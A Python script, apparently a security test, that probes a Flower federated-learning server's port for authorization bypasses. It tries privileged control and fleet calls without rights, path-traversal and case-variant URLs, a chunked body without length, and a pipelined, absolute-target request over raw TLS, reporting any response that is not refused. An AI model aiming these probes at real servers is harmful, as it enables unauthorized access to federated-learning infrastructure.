"""An attacker on the sites' port. `python attacker.py HOST:PORT CA.crt [SITE.key]` prints what it got.

It speaks to the port with Flower's own clients, and by hand where those are too polite.
"""

import json
import socket
import ssl
import sys
from pathlib import Path

import httpx
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.proto import control_pb2, fleet_pb2, runtime_pb2
from flwr.supercore.control import ControlHttpClient
from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes
from flwr.supercore.protobuf.translation import PROTOBUF_REQUEST_TYPES
from flwr.supercore.runtime import RuntimeHttpClient
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

REFUSED = {401, 404, 413}


def attack(address, ca, key=None):
    """With a registered site's `key` the fleet's own calls are allowed; everything else is not."""
    got = []
    verify = ssl.create_default_context(cafile=ca)

    def tried(name, call):
        try:
            got.append([name, str(call())[:200]])
        except httpx.HTTPStatusError as error:
            if error.response.status_code not in REFUSED:
                got.append([name, f"{error.response.status_code} {error.response.text[:200]}"])
        except httpx.HTTPError as error:
            if not isinstance(error, httpx.RemoteProtocolError | httpx.WriteError | httpx.ReadError):
                raise

    private, public = generate_key_pairs()
    if key is not None:
        private = load_ssh_private_key(Path(key).read_bytes(), None)
        public = private.public_key()
    mine = public_key_to_bytes(public)
    signed = [NodeAuthHttpInterceptor(private, public)]
    root = Path(ca).read_bytes()
    runtime = RuntimeHttpClient.from_server_address(address, False, root, signed)
    control = ControlHttpClient.from_server_address(address, False, root, signed)
    fleet = FleetHttpClient.from_server_address(address, False, root, signed)
    kinds = ["flwr-serverapp", "flwr-clientapp", "flwr-simulation", "flwr-agentapp"]
    tried(
        "take a task", lambda: runtime.AcquireTask(runtime_pb2.AcquireTaskRequest(supported_task_types=kinds))
    )
    tried("list runs", lambda: control.ListRuns(control_pb2.ListRunsRequest()))
    tried("list sites", lambda: control.ListNodes(control_pb2.ListNodesRequest()))
    tried("read a log", lambda: list(control.StreamLogs(control_pb2.StreamLogsRequest(run_id=1))))
    tried(
        "register",
        lambda: control.RegisterNode(control_pb2.RegisterNodeRequest(public_key=mine, name="alpha")),
    )
    tried("unregister", lambda: control.UnregisterNode(control_pb2.UnregisterNodeRequest(node_id=1)))
    tried("register itself", lambda: fleet.RegisterNode(fleet_pb2.RegisterNodeFleetRequest(public_key=mine)))
    request = fleet_pb2.ActivateNodeRequest(public_key=mine, heartbeat_interval=30)
    if key is None:
        tried("activate", lambda: fleet.ActivateNode(request))

    headers = {"content-type": "application/protobuf"}
    with httpx.Client(verify=verify, base_url=f"https://{address}", timeout=30) as plain:
        paths = [path for _, path in PROTOBUF_REQUEST_TYPES]
        paths += ["/", "/docs", "/openapi.json", "/health", "/v1/health", "/v1/runtime/responses"]
        paths += ["//v1/control/list-runs", "/v1/fleet/../control/list-runs", "/v1/control/list-runs/"]
        paths += [
            "/v1/fleet/%2e%2e/control/list-runs",
            "/V1/CONTROL/LIST-RUNS",
            "/v1/fleet/..%2fcontrol/list-runs",
        ]
        for path in paths:
            for method in ("POST", "GET"):
                call = lambda m=method, p=path: plain.request(m, p, headers=headers).raise_for_status()  # noqa: E731
                tried(f"{method} {path}", call)
        chunks = lambda: plain.post(  # noqa: E731
            "/v1/fleet/activate-node", headers=headers, content=iter([b"x" * 65536] * 4)
        )
        tried("without a length", lambda: chunks().raise_for_status())

    # An absolute request target, and a second request behind the first, as a careless proxy would pass on.
    host, port = address.split(":")
    body = b"POST /v1/fleet/activate-node HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
    body += b"POST http://x/v1/control/list-runs HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
    with (
        socket.create_connection((host, int(port)), 30) as raw,
        verify.wrap_socket(raw, server_hostname=host) as tls,
    ):
        tls.sendall(body)
        said = b""
        while part := tls.recv(65536):
            said += part
    statuses = [int(line.split()[1]) for line in said.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
    got += [["by hand", status] for status in statuses if status not in REFUSED]
    return got


if __name__ == "__main__":
    print(json.dumps(attack(*sys.argv[1:])))
